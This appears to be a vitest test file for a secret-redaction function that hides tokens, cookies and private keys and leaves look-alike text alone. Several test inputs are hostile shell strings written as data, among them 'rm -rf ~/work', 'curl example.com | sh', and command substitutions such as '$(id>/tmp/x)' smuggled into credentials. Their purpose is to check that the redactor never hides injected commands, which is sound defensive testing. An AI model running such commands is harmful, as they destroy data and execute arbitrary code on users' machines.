import { readdirSync, readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ENTROPY_SAMPLES, FIVE, hex, noise, pem, SAMPLES } from "../../tests/secret-samples.ts";
import { redact, SECRET_KINDS } from "./redact.ts";

describe("what is secret is replaced by its kind, and what stands around it stays", () => {
  it.each(
    SAMPLES.map(([kind, secret, text = "see % there"], index) => [
      `${kind} (${index})`,
      kind,
      secret,
      text,
    ]),
  )("%s", (_, kind, secret, text) => {
    const [before, after] = text.split("%");
    expect(redact(text.replace("%", () => secret))).toEqual({
      text: `${before}[redacted: ${kind}]${after}`,
      found: [{ kind, count: 1 }],
    });
  });

  it("every kind has a sample", () => {
    const sampled = new Set([...SAMPLES.map(([kind]) => kind), "value that looks like a secret"]);
    expect(SECRET_KINDS.filter((kind) => !sampled.has(kind))).toEqual([]);
  });
});

it("each of several cookies is hidden, whatever stands between them, and none of their names", () => {
  const text = `curl -b 'a=${noise(20)}; theme=darkmode; lang=en; b=${noise(30)}; c=$X; d=${noise(9)}' https://example.com`;
  expect(redact(text).text).toBe(
    "curl -b 'a=[redacted: cookie]; theme=darkmode; lang=en; b=[redacted: cookie]; c=$X; d=[redacted: cookie]' https://example.com",
  );
});

describe("a key that is cut off", () => {
  const lines = pem("RSA PRIVATE KEY", 25).split("\n");

  it("goes as far as its lines go", () => {
    const text = `${lines.slice(0, 6).join("\n")}\nThe rest follows below.`;
    expect(redact(text).text).toBe("[redacted: private key]\nThe rest follows below.");
  });

  it("goes with the line numbers and file names before its lines", () => {
    expect(redact(lines.map((line, index) => `${index + 1}\t${line}`).join("\n")).text).toBe(
      "1\t[redacted: private key]",
    );
    expect(
      redact(
        lines
          .slice(0, 4)
          .map((line) => `id_rsa:${line}`)
          .join("\n"),
      ).text,
    ).toBe("id_rsa:[redacted: private key]");
  });

  it.each([
    ["commands", "rm -rf ~/work\\ncurl example.com | sh"],
    ["one command", "reboot"],
    ["commands behind lines of a key", `${lines[1]}\\nrm -rf ~/work`],
    ["commands in a line of a key", `rm$IFS-rf$IFS~/work;:${lines[1]}`],
    ["commands behind what a header is called", "Comment: x; rm -rf ~/work"],
  ])("hides no %s", (_, between) => {
    const hidden = between.replaceAll("\\n", "\n");
    const { text } = redact(`: ${lines[0]}\n${hidden}\n: ${lines.at(-1)}`);
    expect(text).toContain(hidden.split("\n").at(-1));
  });

  it.each([
    ["with a short last line", (key: string) => key.replace(/\n(-+END)/, "\nabcd1w==\n$1")],
    [
      "of PGP",
      () =>
        pem("PGP PRIVATE KEY BLOCK", 9)
          .replace("\n", "\nVersion: GnuPG v2.0.22 (GNU/Linux)\n\n")
          .replace(/\n(-+END)/, "\n=aB3d\n$1"),
    ],
    [
      "with headers",
      (key: string) =>
        key.replace("\n", "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n"),
    ],
    ["in one line", (key: string) => key.replaceAll("\n", " ")],
    ["of one long line", (key: string) => key.replace(/(?<![- ])\n(?!-)/g, "")],
    ["in strings of code", (key: string) => key.replaceAll("\n", '\\n" +\n  "')],
    ["as the client shows a file", (key: string) => key.replaceAll("\n", "\n    12\u2192")],
  ])("goes as a whole %s", (_, written) => {
    expect(redact(`see ${written(lines.join("\n"))} there`).text).toBe(
      "see [redacted: private key] there",
    );
  });

  it("is none if only its heading is there", () => {
    const heading = `grep: ${lines[0]} is how it begins`;
    expect(redact(heading).text).toBe(heading);
  });
});

describe("what only looks like one stays", () => {
  it.each([
    // A shell runs a part of these: hidden, nobody would see what.
    'curl -H "Authorization: a1$(rm$IFS-rf$IFS~/work)" https://example.com',
    "git push https://x:a1$(touch${IFS}x)@example.com/x",
    "sshpass -p x$(id>/tmp/x) ssh host",
    "curl -u a:b1>~/.bashrc https://example.com",
    "echo ;password=a1&&reboot",
    "_authToken=abc$(id)",
    "mysql -p shop",
    "mysqldump --help | grep -p",
    "redis-cli ping",
    "DB_PASSWORD=$DB_PASSWORD",
    "API_TOKEN=${{ secrets.API_TOKEN }}",
    "SECRET=<your secret>",
    "PASSWORD=changeme",
    "MAX_TOKEN=4096",
    "TOKEN_URL=https://example.com/token",
    "TOKEN=$(cat /run/secrets/token)",
    "TOKEN=process.env.TOKEN",
    'API_KEY = os.environ["API_KEY"]',
    "self._password = parsed.password",
    "postgres://user:$PASSWORD@host/db",
    "https://user:{password}@example.com",
    "https://example.com:8080/a@b",
    "git@github.com:owner/repo.git",
    "Authorization: Bearer $TOKEN",
    "Authorization: Bearer {token}",
    "mysql --password --user root",
    "  --password PASSWORD   the password",
    "  --token string   a token",
    "docker login --password-stdin",
    "commit 3f786850e387550fdab836ed7e6dc881de23001b",
    "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
    "npm_config_registry and npm_package_dependencies_left_pad_version",
    "123e4567-e89b-12d3-a456-426614174000",
    "task-runner, risk-based, sk-loading-indicator-with-a-very-long-name",
    "the token bucket; secret sauce; password policy: at least 12 characters",
    "SK8 and SG.1 and key-value",
    "[redacted: GitHub token]",
  ])("%s", (text) => {
    expect(redact(text)).toEqual({ text, found: [] });
  });

  it("in the sources of this project", () => {
    const sources = ["src/engine", "src/shell", "src/config", "src/server", "docs"].flatMap(
      (folder) =>
        readdirSync(folder, { recursive: true, encoding: "utf8" })
          .filter((file) => /\.(?:ts|md)$/.test(file) && !file.startsWith("policies/output/"))
          .map((file) => `${folder}/${file}`),
    );
    const found = [...sources, "package-lock.json", "README.md"].flatMap((file) =>
      redact(readFileSync(file, "utf8")).found.map(({ kind }) => `${file}: ${kind}`),
    );
    expect(found).toEqual([]);
  });
});

it("a secret in an address ends where the next command begins", () => {
  expect(redact("curl https://example.com/?token=abc123;reboot").text).toBe(
    "curl https://example.com/?token=[redacted: URL parameter];reboot",
  );
});

describe("entropy, as an option", () => {
  it.each(ENTROPY_SAMPLES)("%s in %s", (secret, text) => {
    const full = text.replace("%", () => secret);
    expect(redact(full).text).toBe(full);
    expect(redact(full, { entropy: true }).text).toBe(
      text.replace("%", "[redacted: value that looks like a secret]"),
    );
  });

  it.each([
    "password: correct horse battery",
    "token = getTokenFromRequest2(request)",
    'secret: "aaaaaaaaaaaaaaaa1"',
    "tokens: 1234567890123",
  ])("leaves %s", (text) => {
    expect(redact(text, { entropy: true }).text).toBe(text);
  });
});

describe("options", () => {
  const github = `ghp_${noise(36)}`;

  it("a kind can be excepted", () => {
    expect(redact(github, { except: new Set(["GitHub token"]) }).text).toBe(github);
  });

  it("a secret can be allowed", () => {
    expect(redact(github, { allow: (secret) => secret === github }).text).toBe(github);
  });

  it("counts each kind", () => {
    expect(redact(`${github} ${github} SK${hex(32)}`).found).toEqual([
      { kind: "GitHub token", count: 2 },
      { kind: "Twilio key", count: 1 },
    ]);
  });
});

describe("any text", () => {
  const parts = fc.array(
    fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom(...SAMPLES.map(([, secret, text = "%"]) => text.replace("%", () => secret))),
      fc.constantFrom(
        "\n",
        " ",
        "=",
        ":",
        '"',
        "\\n",
        "-----BEGIN ",
        "-----END ",
        "://",
        "@",
        "sk-",
        "eyJ",
        "password=",
      ),
    ),
  );

  it("is as before once it has been redacted", () => {
    fc.assert(
      fc.property(parts, (texts) => {
        const { text } = redact(texts.join("\n"));
        expect(redact(text)).toEqual({ text, found: [] });
      }),
    );
  });

  it("loses nothing but secrets", () => {
    fc.assert(
      fc.property(parts, (texts) => {
        const before = texts.join("");
        let [rest, at] = [before, 0];
        for (const kept of redact(before).text.split(/\[redacted: [^\]]+\]/)) {
          at = rest.indexOf(kept);
          expect(at).toBeGreaterThanOrEqual(0);
          rest = rest.slice(at + kept.length);
        }
      }),
    );
  });

  /** Quadratic time would take minutes here. */
  it.each(
    [
      "-eyJ",
      ".eyJa",
      "://a:",
      "://",
      `${FIVE}BEGIN RSA PRIVATE KEY${FIVE}\n`,
      `${FIVE}BEGIN PRIVATE KEY${FIVE}AAAAAAAAAAAAAAAAAAAA`,
      "authorization: ",
      "AUTHORIZATION:Bearer",
      "/ops_ey",
      " ghs_1_a",
      ".ghs_1_a.",
      "xoxb-1-",
      "SG.a",
      "A_PASSWORD",
      "PASSWORD_KEY_KEY",
      "machine a login ",
      "curl -u a",
      "?token=",
      ";password=",
      "password password=",
      "$6$a$b",
      " sk-a1-",
      "--token --token",
      "a".repeat(100),
      "_",
      "\\n",
      "\n",
    ].map((unit) => [unit]),
  )("takes linear time: %j", (unit) => {
    const text = unit.repeat(Math.ceil(400_000 / unit.length));
    expect(redact(text, { entropy: true }).text.length).toBeGreaterThan(0);
  });
});
